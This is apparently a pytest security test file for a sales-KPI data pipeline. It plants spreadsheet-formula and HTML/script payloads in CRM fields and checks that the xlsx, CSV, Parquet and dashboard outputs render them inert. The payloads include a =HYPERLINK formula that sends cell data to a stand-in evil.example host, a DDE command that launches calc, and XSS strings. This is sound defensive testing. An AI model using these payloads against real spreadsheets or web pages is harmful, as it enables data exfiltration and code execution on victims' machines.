"""Hostile text from the CRM in what the runner writes for people: exported files and the dashboard.

A copy of the session's generated data gets payloads in every text field
that reaches a mart: users' full_name and team, leads' lead_source,
accounts' segment, products' product_name, and two targets whose metric is
a payload. They are spreadsheet formulas (``=HYPERLINK(...)``, ``=1+1``,
``+SUM(A1:A9)``, ``@cmd``, ``-2+3``, a DDE call, tab- and carriage-return-
led values), a control character an xlsx file cannot hold, and markup for
the page (``</script><script>``, ``<b>``, plotly's ``%{...}``). The data is
built, then every kpi_ mart is exported in every format, and the finance
bundle, and the payloads must hold:

- xlsx: every cell of a data sheet holding a text value is a string cell
  (openpyxl ``data_type 's'``), never a formula (``'f'``); no cell of the
  workbook is a formula;
- CSV: a text value starting with ``= + - @``, a tab or a carriage return
  is written with a leading ``'`` (the OWASP rule), every other text value
  as it is;
- Parquet: every value exactly as in the mart (typed data, no formula
  semantics);
- the dashboard: the page's JSON never closes its script element, and names
  and the --currency label render as text.

Each test prints the payload cells it tried and how many held.
"""

from __future__ import annotations

import csv
import html
import json
import re
from pathlib import Path

import pyarrow.parquet as pq
import pytest
from openpyxl import load_workbook

from conftest import build_ok, connect, copy_raw, copy_warehouse, describe_run, run_build
from sales_kpis.browser import dump_dom, find_chromium
from sales_kpis.export import FINANCE_BUNDLE, export_finance_bundle, export_mart
from sales_kpis.report import write_report

pytestmark = pytest.mark.slow

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B2,"bonus")'
DDE = "=cmd|' /C calc'!A0"
FORMULAS = [HYPERLINK, "=1+1", "+SUM(A1:A9)", "@cmd", "-2+3", "\t=1+1", "\r=1+1", DDE]
MARKUP = ["</script><script>alert(1)</script>", "<b>bold</b> & <i>co</i>", "%{x} [red]rich[/red]",
          "<img src=x onerror=alert(2)>"]
#: What a spreadsheet reads as the start of a formula (OWASP's list).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
CURRENCY = "</script><script>alert('currency')</script>"


def plant(raw: Path) -> None:
    """Payloads in the text fields of a raw-data copy (parquet files rewritten in place)."""
    import pandas as pd

    def edit(table: str, change) -> None:
        path = raw / f"{table}.parquet"
        frame = pd.read_parquet(path)
        frame = change(frame)
        frame.to_parquet(path, index=False)

    def users(frame):
        frame = frame.sort_values("user_id").reset_index(drop=True)
        sdr = frame["role"].str.lower() == "sdr"
        frame.loc[~sdr, "full_name"] = [FORMULAS[index % len(FORMULAS)] for index in range(int((~sdr).sum()))]
        frame.loc[sdr, "full_name"] = [MARKUP[index % len(MARKUP)] for index in range(int(sdr.sum()))]
        frame["team"] = frame["team"].replace({"SMB AE": "+SUM(A1:A9)", "Enterprise AE": "@cmd",
                                               "Mid-Market AE": "=1+1 bell\x07"})
        return frame

    edit("users", users)
    edit("leads", lambda frame: frame.assign(lead_source=frame["lead_source"].replace(
        {"partner": HYPERLINK, "event": "-2+3", "referral": "\t=1+1"})))
    edit("accounts", lambda frame: frame.assign(segment=frame["segment"].replace({"Mid-Market": DDE})))
    edit("products", lambda frame: frame.assign(
        product_name=[FORMULAS[(index + 3) % len(FORMULAS)] for index in range(len(frame))]))

    def targets(frame):
        extra = [{**frame.iloc[0].to_dict(), "metric": metric, "segment": None, "product_id": None}
                 for metric in ("=1+1", "\r@SUM(1)")]
        return pd.concat([frame, pd.DataFrame(extra)], ignore_index=True)

    edit("targets", targets)


@pytest.fixture(scope="module")
def hostile(generated_raw_dir, tmp_path_factory) -> Path:
    """The session's generated data with payloads planted, built; the warehouse path."""
    workdir = tmp_path_factory.mktemp("hostile")
    raw = copy_raw(generated_raw_dir, workdir / "raw")
    plant(raw)
    run = run_build(raw, workdir)
    assert build_ok(run), describe_run(run)
    return workdir / "wh.duckdb"


def marts(database: Path) -> list[str]:
    with connect(database) as connection:
        return sorted(row[0] for row in connection.execute(
            "select table_name from information_schema.tables where table_name like 'kpi\\_%' escape '\\'").fetchall())


def text_values(database: Path, mart: str) -> dict[str, list]:
    """{text column: its values} of a mart, sorted as the export sorts it."""
    from sales_kpis.definitions import load

    key = load().models[mart].key
    with connect(database) as connection:
        types = dict(connection.execute(
            "select column_name, data_type from information_schema.columns where table_name = ?", [mart]).fetchall())
        texts = [name for name, kind in types.items() if kind == "VARCHAR"]
        order = ", ".join(f'"{column}"' for column in key)
        rows = connection.execute(f"select {', '.join(chr(34) + t + chr(34) for t in texts)} from {mart} order by {order}").fetchall()
    return {name: [row[index] for row in rows] for index, name in enumerate(texts)}


def is_payload(value) -> bool:
    return isinstance(value, str) and (value.startswith(TRIGGERS) or any(mark in value for mark in ("<", "%{", "\x07")))


def in_xlsx(value: str) -> str:
    """A text value as an xlsx file reads back: a carriage return is XML's line feed; control
    characters XML cannot hold are U+FFFD."""
    value = value.replace("\r\n", "\n").replace("\r", "\n")
    return re.sub(r"[\x00-\x08\x0b\x0c\x0e-\x1f]", "\ufffd", value)


def test_the_payloads_reach_the_marts(hostile):
    """The planted values are in the marts (lower-cased where staging normalises them), so the
    exports below have something to hold."""
    found = {value for mart in marts(hostile) for values in text_values(hostile, mart).values()
             for value in values if is_payload(value)}
    assert {"=1+1", "+SUM(A1:A9)", "@cmd", "-2+3", "\t=1+1", "\r=1+1", DDE, HYPERLINK.lower()} <= found, found
    assert "</script><script>alert(1)</script>" in found and "=1+1 bell\x07" in found


def test_xlsx_cells_from_data_are_text(hostile, tmp_path):
    tried = held = 0
    failures = []
    workbooks = [export_mart(hostile, mart, "xlsx", tmp_path / f"{mart}.xlsx", column_names=True).path
                 for mart in marts(hostile)]
    bundle = export_finance_bundle(hostile, tmp_path / "bundle.xlsx", column_names=True)
    workbooks.append(bundle.path)
    for path in workbooks:
        workbook = load_workbook(path)
        formulas = [f"{path.name}!{sheet.title}!{cell.coordinate}" for sheet in workbook
                    for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
        failures += [f"formula cell {where}" for where in formulas]
        for sheet in workbook.worksheets[1:]:
            mart = next((name for name, title in FINANCE_BUNDLE if title == sheet.title), None) \
                if path == bundle.path else path.stem
            expected = text_values(hostile, mart)
            header = [cell.value for cell in sheet[1]]
            for column, values in expected.items():
                index = header.index(column) + 1
                for row, value in enumerate(values, start=2):
                    if not is_payload(value):
                        continue
                    cell = sheet.cell(row=row, column=index)
                    tried += 1
                    if cell.data_type == "s" and cell.value == in_xlsx(value):
                        held += 1
                    else:
                        failures.append(f"{path.name}!{sheet.title}!{cell.coordinate}: {cell.data_type} {cell.value!r}")
    print(f"xlsx: {len(workbooks)} workbooks, {tried} payload cells tried, {held} held")
    assert tried > 100 and not failures, "\n".join(failures[:20])


def test_csv_applies_the_owasp_rule(hostile, tmp_path):
    tried = held = 0
    failures = []
    for mart in marts(hostile):
        path = export_mart(hostile, mart, "csv", tmp_path / f"{mart}.csv", column_names=True).path
        with open(path, newline="", encoding="utf-8") as handle:
            rows = list(csv.DictReader(handle))
        for column, values in text_values(hostile, mart).items():
            written = [row[column] for row in rows]
            for value, cell in zip(values, written):
                if value is None:
                    continue
                expected = "'" + value if value.startswith(TRIGGERS) else value
                if is_payload(value):
                    tried += 1
                    held += cell == expected
                if cell != expected:
                    failures.append(f"{mart}.{column}: {cell!r}, expected {expected!r}")
    print(f"csv: {tried} payload cells tried, {held} held")
    assert tried > 100 and not failures, "\n".join(failures[:20])


def test_parquet_keeps_values_as_they_are(hostile, tmp_path):
    tried = held = 0
    failures = []
    for mart in marts(hostile):
        table = pq.read_table(export_mart(hostile, mart, "parquet", tmp_path / f"{mart}.parquet",
                                          column_names=True).path)
        for column, values in text_values(hostile, mart).items():
            written = table[column].to_pylist()
            tried += sum(1 for value in values if is_payload(value))
            held += sum(1 for value, cell in zip(values, written) if is_payload(value) and cell == value)
            if written != values:
                failures.append(f"{mart}.{column} differs")
    print(f"parquet: {tried} payload cells tried, {held} held")
    assert tried > 100 and not failures, "\n".join(failures)


# --------------------------------------------------------------------------- the dashboard


def script_blocks(page: str) -> list[str]:
    return re.findall(r"<script[^>]*>(.*?)</script>", page, re.S)


@pytest.fixture(scope="module")
def hostile_page(hostile, tmp_path_factory) -> dict:
    workdir = tmp_path_factory.mktemp("hostile-report")
    database = copy_warehouse(hostile, workdir / "wh.duckdb")
    result = write_report(database, workdir / "out", currency=CURRENCY)
    return {"result": result, "html": result.path.read_text(encoding="utf-8")}


def test_script_blocks_hold_markup_as_data(hostile_page):
    """The page has exactly the script elements it writes (plotly.js, the manifest, one per chart,
    the resize hook): no value closed one and opened another, and the manifest reads back whole."""
    page = hostile_page["html"]
    charts = len(hostile_page["result"].with_data)
    assert page.count("<script") == page.count("</script>") == 3 + charts
    assert "<script>alert" not in page and "alert(1)</script>" not in page
    manifest = re.search(r'<script type="application/json" id="report-manifest">(.*?)</script>', page, re.S).group(1)
    assert json.loads(manifest)["currency"] == CURRENCY
    assert not re.search(r"[<>&\u2028\u2029]", manifest), "the manifest escapes <, >, & and U+2028/9"
    assert f"<b>{html.escape(CURRENCY)}</b>" in page, "the header shows the label as text"


@pytest.mark.skipif(find_chromium() is None, reason="no Chromium: `make chromium` installs Debian's (root)")
def test_names_render_as_text_in_chromium(hostile_page):
    """Rendered: the SDR chart's legend shows the markup names literally, no element they spell
    exists, and no planted script ran (it would have replaced the page's title)."""
    dom = dump_dom(hostile_page["result"].path)
    assert "<b>bold</b>" not in dom and "<img src=x" not in dom
    legend = re.search(r'id="chart-sdr_roi".*?</section>', dom, re.S).group(0)
    texts = {html.unescape(text) for text in re.findall(r'<text[^>]*class="legendtext"[^>]*>(.*?)</text>', legend, re.S)}
    assert {"<b>bold</b> & <i>co</i>", "%{x} [red]rich[/red]", "</script><script>alert(1)</script>"} <= texts, texts
    print(f"chromium: {len(texts)} SDR names rendered as text")
